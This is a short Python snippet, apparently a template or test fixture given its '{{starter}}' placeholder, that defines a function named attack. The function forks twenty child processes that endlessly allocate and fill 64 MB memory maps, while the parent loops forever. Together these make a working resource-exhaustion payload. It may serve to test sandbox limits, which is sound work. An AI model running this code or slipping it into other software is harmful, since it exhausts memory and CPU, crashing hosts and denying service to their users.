import mmap
import os


def attack(*_):
    for _ in range(20):
        if os.fork() == 0:
            kept = []
            while True:
                m = mmap.mmap(-1, 1 << 26)
                m.write(b"x" * (1 << 26))
                kept.append(m)
    while True:
        pass


{{starter}}
